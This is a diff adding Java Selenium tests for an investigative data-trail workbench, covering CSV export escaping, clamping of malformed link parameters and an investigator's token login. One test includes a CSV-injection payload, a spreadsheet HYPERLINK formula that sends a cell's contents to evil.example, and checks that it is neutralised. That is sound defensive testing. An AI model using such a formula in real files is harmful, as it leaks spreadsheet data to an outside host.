@@ -114,6 +114,16 @@ class WorkbenchBrowserTests {
             assertThat(csv).contains("2,2,transfer,experian-marketing-services,Experian Marketing Services,labour-party,Labour Party,transfer-experian-to-labour",
                     "consent verdict", "the privacy policy contained no mention of selling data for political purposes");
 
+            // a cell a spreadsheet would run as a formula gets a leading ' (CSV injection); other values stay as they are
+            Object cells = ((JavascriptExecutor) browser).executeAsyncScript("""
+                    const done = arguments[arguments.length - 1];
+                    import('/workbench/export.js').then(m => ['=HYPERLINK("http://evil.example/?"&A1,"Click")', '+44 20 7946 0000',
+                      '-1+2', '@SUM(A1:A9)', '\\tTAB', '\\rCR', 'Emma\\'s Diary', '2017-05-05', 1000000, true, null].map(m.csvCell))
+                      .then(done, e => done(['failed: ' + e]));
+                    """);
+            assertThat(cells).isEqualTo(List.of("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\"", "'+44 20 7946 0000",
+                    "'-1+2", "'@SUM(A1:A9)", "'\tTAB", "\"'\rCR\"", "Emma's Diary", "2017-05-05", "1000000", "true", ""));
+
             browser.findElement(By.id("export-json")).click();
             JsonNode json = JsonMapper.builder().build().readTree(downloaded("datatrail-lifecycle-marketing-chains.json"));
             assertThat(json.path("permalink").asString()).isEqualTo(permalink);
@@ -152,6 +162,25 @@ class WorkbenchBrowserTests {
     }
 
     @Test
+    void aLinkWithTooManyHopsOrMalformedDatesIsClampedAndTracesAnyway() {
+        withBrowser(browser -> {
+            // the API takes at most 8 hops and Date as YYYY-MM-DD: sent as they are, these would fail the trace
+            browser.get(base() + "/?org=lifecycle-marketing&hops=20&since=5%2F5%2F2017&until=2017-02-30");
+            waitForStatus(browser, "3 organisations, 2 transfers in 2 chains · 1 where consent ran out");
+            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("8");
+            assertThat(browser.findElement(By.id("since")).getAttribute("value")).isEmpty();
+            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEmpty();
+            assertThat(browser.findElement(By.id("message")).isDisplayed()).isFalse();
+            assertThat(browser.getCurrentUrl()).contains("hops=8").doesNotContain("since=", "until=");
+
+            browser.get(base() + "/?org=lifecycle-marketing&hops=0&until=2017-05-05");
+            waitForStatus(browser, "2 organisations, 1 transfer in 1 chain · 1 where consent ran out");
+            assertThat(browser.findElement(By.id("hops")).getAttribute("value")).isEqualTo("1");
+            assertThat(browser.findElement(By.id("until")).getAttribute("value")).isEqualTo("2017-05-05");
+        });
+    }
+
+    @Test
     void aJournalistSeesNoRecordingControlsAndTheApiRefusesAMutationAnyway() {
         withBrowser(browser -> {
             browser.get(base() + "/?org=lifecycle-marketing");
@@ -178,9 +207,14 @@ class WorkbenchBrowserTests {
             browser.findElement(By.id("token")).sendKeys(Testers.INVESTIGATOR_TOKEN);
             browser.findElement(By.id("use-token")).click();
             wait(browser).until(b -> b.findElement(By.id("role")).getText().equals("INVESTIGATOR"));
+            // the message comes once the vocabulary and the organisation have been loaded again for the investigator
+            wait(browser).until(b -> b.findElement(By.id("message")).getText().equals("Token accepted: you may record findings."));
             assertThat(browser.getCurrentUrl()).doesNotContain(Testers.INVESTIGATOR_TOKEN);
             WebElement form = browser.findElement(By.id("record-transfer"));
             assertThat(form.isDisplayed()).isTrue();
+            assertThat(new Select(form.findElement(By.name("source"))).getOptions().stream().map(o -> o.getAttribute("value")))
+                .contains("003_a492018db8ce563d", "004_bf7446b07f76cf73");
+            assertThat(browser.findElement(By.id("org-name")).getText()).isEqualTo("Facebook");
 
             form.findElement(By.name("id")).sendKeys("transfer-facebook-to-tweekaboo");
             WebElement from = form.findElement(By.name("from"));
